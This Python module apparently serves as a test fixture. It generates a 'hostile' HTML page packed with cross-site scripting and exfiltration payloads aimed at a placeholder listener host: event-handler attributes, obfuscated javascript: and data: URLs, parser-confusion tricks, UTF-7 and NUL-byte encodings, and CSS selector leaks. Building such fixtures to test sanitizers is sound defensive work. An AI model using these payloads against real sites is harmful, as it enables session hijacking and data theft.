"""A page that tries everything: to run, to ask, to lead away, to be read as something else. Every address in it is one
of `LISTENER`, where nobody may ever knock."""

from __future__ import annotations

from typing import Final

__all__ = ["ATTRIBUTES", "LISTENER", "hostile_page"]

LISTENER: Final = "LISTENER.invalid"
"""Put the host and port of whoever listens in its place."""
EVENTS: Final = (
    "onload", "onerror", "onclick", "onmouseover", "onfocus", "onblur", "onanimationstart", "ontransitionend",
    "onpointerenter", "onscroll", "ontoggle", "onbeforeinput", "onwheel", "onpageshow", "onhashchange",
    "onmessage", "onsubmit", "oncopy", "onbegin", "onend", "onrepeat", "onauxclick",
)  # fmt: skip
RUN: Final = "top.document.title='OWNED';new Image().src='http://LISTENER.invalid/ran'"
ATTRIBUTES: Final = " ".join(f'{event}="{RUN}"' for event in EVENTS)
QUOTE: Final = "The ministry installed 1,500 cameras at schools in Pyongyang in May 2021."


def hostile_page(listener: str) -> bytes:
    """The page, with everything in it that may reach `listener` (host and port)."""
    asks = f"http://{listener}/"
    deep = "<div>" * 900 + "deep" + "</div>" * 900
    page = f"""<!doctype html><html {ATTRIBUTES}><head><meta charset="utf-7"><meta charset="utf-8">
<title>Hostile</title><base href="{asks}base/" target="_top">
<meta http-equiv="refresh" content="0;url={asks}refresh"><meta http-equiv="Set-Cookie" content="stolen=1">
<meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline'">
<link rel="stylesheet" href="{asks}style.css"><link rel="preload" as="script" href="{asks}preload.js">
<link rel="prefetch" href="{asks}prefetch"><link rel="dns-prefetch" href="//{listener}"><link rel="icon" href="{asks}icon">
<link rel="manifest" href="{asks}manifest"><link rel="modulepreload" href="{asks}module.js">
<style>@import url("{asks}import.css"); body{{background:url({asks}css)}}
  input[value^="a"]{{background:url({asks}exfiltrated-a)}} @font-face{{font-family:x;src:url({asks}font)}} *{{font-family:x}}
</style><script>{RUN}</script><script src="{asks}script.js"></script><script type="speculationrules">
{{"prefetch":[{{"source":"list","urls":["{asks}speculated"]}}]}}</script></head>
<body {ATTRIBUTES} background="{asks}background" style="background:url({asks}inline)">
<p {ATTRIBUTES}>{QUOTE}</p>
<a href="javascript:{RUN}" id="claim-1" class="claim" name="cookie">one</a>
<a href="&#106;avascript&colon;{RUN}" ping="{asks}ping">two</a> <a href=" java\tscript:{RUN}">three</a>
<a href="data:text/html,<script>{RUN}</script>" target="_top">four</a> <a href="{asks}away" target="_top">five</a>
<svg onload="{RUN}"><script>{RUN}</script><use href="{asks}svg#x"/><animate onbegin="{RUN}" attributeName="x" dur="1s"/>
  <image href="{asks}image.svg"/><a xlink:href="javascript:{RUN}"><text y="20">svg link</text></a>
  <foreignObject><iframe src="{asks}foreign"></iframe></foreignObject><style>@import "{asks}svg.css"</style></svg>
<math><mtext><table><mglyph><style><img src=x onerror="{RUN}"></style></mglyph></table></mtext>
  <maction actiontype="statusline#{asks}" xlink:href="javascript:{RUN}">m</maction></math>
<noscript><p title="</noscript><img src=x onerror={RUN}>">n</p></noscript>
<iframe src="{asks}frame" {ATTRIBUTES}></iframe><iframe srcdoc="<script>{RUN.replace('"', "")}</script>"></iframe>
<object data="{asks}object"></object><embed src="{asks}embed"><applet code="{asks}applet"></applet></applet>
<form action="{asks}form" method="post" {ATTRIBUTES}><input name=a value="abc" autofocus {ATTRIBUTES}><button formaction="{asks}b">
  Press</button><input type=image src="{asks}input.png"><textarea><script>{RUN}</script></textarea></form>
<img src="{asks}image.png" srcset="{asks}set.png 2x" {ATTRIBUTES} alt="A square"><img src=x onerror="{RUN}" width=1 height=1>
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>">
<img src="data:image/png;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"><picture><source srcset="{asks}source.webp"></picture>
<video src="{asks}video" poster="{asks}poster" autoplay></video><audio src="{asks}audio" autoplay></audio>
<table background="{asks}table"><tr><td background="{asks}cell" style="width:expression({RUN})">cell</td></tr></table>
<details open ontoggle="{RUN}"><summary>s</summary>d</details><dialog open {ATTRIBUTES}>A dialog <form method=dialog></form></dialog>
<marquee onstart="{RUN}">m</marquee><isindex action="{asks}"><keygen><bgsound src="{asks}sound"><layer src="{asks}layer">l</layer>
<template><script>{RUN}</script></template><xmp><img src=x onerror="{RUN}"></xmp>
<select><template><img src=x onerror="{RUN}"></template></select><!--><img src=x onerror="{RUN}">--><![CDATA[<img src=x onerror="{RUN}">]]>
<p>nul\x00l: <scr\x00ipt>{RUN}</scr\x00ipt> <im\x00g src=x onerror="{RUN}"></p>
<p>+ADw-script+AD4-{RUN}+ADw-/script+AD4-</p> <p>\udc3cscript\udc3e</p>
<div popover id=pop {ATTRIBUTES}>popover</div><button popovertarget=pop>p</button><plaintext-x onfocus="{RUN}" tabindex=1>p</plaintext-x>
<p title='"><img src=x onerror="{RUN}">' lang='"><script>{RUN}</script>' dir="rtl" class="gone">attributes</p>
{deep}
<p>The last words.</p><plaintext><script>{RUN}</script>"""  # noqa: E501
    return page.replace("LISTENER.invalid", listener).encode("utf-8", "surrogatepass")
